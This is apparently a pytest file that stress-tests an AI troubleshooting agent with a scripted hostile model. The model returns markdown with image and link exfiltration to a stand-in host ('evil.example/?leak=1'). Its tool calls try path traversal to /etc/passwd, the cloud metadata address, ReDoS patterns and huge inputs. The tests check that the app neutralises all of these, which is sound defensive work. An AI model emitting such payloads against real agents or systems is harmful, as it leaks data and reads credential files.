"""What a hostile or broken model cannot do: draw, run on for ever, or reach beyond the turn."""

import time
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from agents.evidence import Domain
from tests.support.app import asked, running_app
from tests.support.scripted_provider import Reply, ScriptedProvider, text, tool_call, tool_calls

QUESTION = "Why is checkout in namespace shop down?"


@pytest.mark.parametrize("chunk_chars", [1, 7, None])
async def test_an_answer_draws_no_picture_and_makes_no_link(
    database_url: str, tmp_path: Path, chunk_chars: int | None
) -> None:
    words = (
        "Look here ![x](http://evil.example/?leak=1) or [there](http://evil.example). Then [E1](http://evil.example).\n\n"
        "<img src=http://evil.example/x.png>\n\n[a]: http://evil.example/y.png\n\n![a] and ![b][a]\n\n"
        "The end [E1]\n(http://evil.example)\n"
    )
    async with (
        ScriptedProvider([text(words, chunk_chars=chunk_chars)]) as provider,
        running_app(database_url, tmp_path, provider=provider) as app,
    ):
        told = await asked(app, QUESTION, agent=Domain.DEPLOYMENT)

    tokens = [token for token in MarkdownIt().parse(told.answer.text) if token.type == "inline"]
    kinds = {child.type for token in tokens for child in token.children or ()}
    assert kinds & {"link_open", "image", "html_inline"} == set()
    assert "evil.example" in told.answer.text


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("logs", {"name": "../../../etc/passwd", "namespace": "..", "container": "../../x"}),
        ("logs", {"name": "checkout", "namespace": "shop", "contains": "(a+)+$" * 2000, "lines": 10**9}),
        ("get_object", {"kind": "x" * 500_000, "name": "y" * 500_000, "namespace": "z" * 500_000}),
        ("list_objects", {"kind": "Pod", "label_selector": "a in (" * 100_000}),
        ("search_view", {"wanted": "a" * 1_000_000, "kinds": ["Pod"] * 100_000}),
        ("search_view", {"wanted": {"nested": [[[[]]]]}}),
        ("no_such_tool", {"file": "/etc/passwd", "url": "http://169.254.169.254/"}),
        ("logs", "[" * 100_000),
    ],
)
async def test_arguments_without_measure_cost_a_sentence(
    database_url: str, tmp_path: Path, tool: str, arguments: Any
) -> None:
    def script(request: dict[str, Any]) -> Reply:
        if request["messages"][-1]["role"] != "tool":
            return tool_call(tool, arguments)
        return text("Nothing more is known.")

    async with ScriptedProvider(script) as provider, running_app(database_url, tmp_path, provider=provider) as app:
        told = await asked(app, QUESTION, agent=Domain.DEPLOYMENT)
        turn = (await app.services.record.history(told.thread_id, limit=1))[-1]

    assert told.answer.text.strip()
    assert turn.status == "done"
    assert "root:" not in told.answer.text
    assert max(len(r.body) for r in provider.requests) < 200_000
    assert sum(len(event.model_dump_json()) for event in told.events) < 1_000_000


@pytest.mark.parametrize(
    "reply",
    [
        text("a" * 20_000_000),
        text("A sentence. " * 200_000, chunk_chars=4_000),
        text("`" * 300_000, chunk_chars=2_000),
        text("[" * 300_000, chunk_chars=2_000),
        text("x-y " * 100_000, chunk_chars=2_000),
        tool_calls([("list_objects", {"kind": "Pod"})] * 5_000),
    ],
    ids=["one-chunk", "sentences", "ticks", "brackets", "names", "calls"],
)
async def test_an_answer_without_end_is_cut_off_and_the_evidence_is_told(
    database_url: str, tmp_path: Path, reply: Reply
) -> None:
    started = time.monotonic()
    async with ScriptedProvider([reply]) as provider, running_app(database_url, tmp_path, provider=provider) as app:
        told = await asked(app, QUESTION, agent=Domain.DEPLOYMENT)
        turn = (await app.services.record.history(told.thread_id, limit=1))[-1]

    assert turn.status == "done"
    assert "stream-broken" in " ".join(told.codes)
    assert "2.18.O" in told.answer.text
    assert len(told.answer.text) < 500_000
    assert time.monotonic() - started < 25
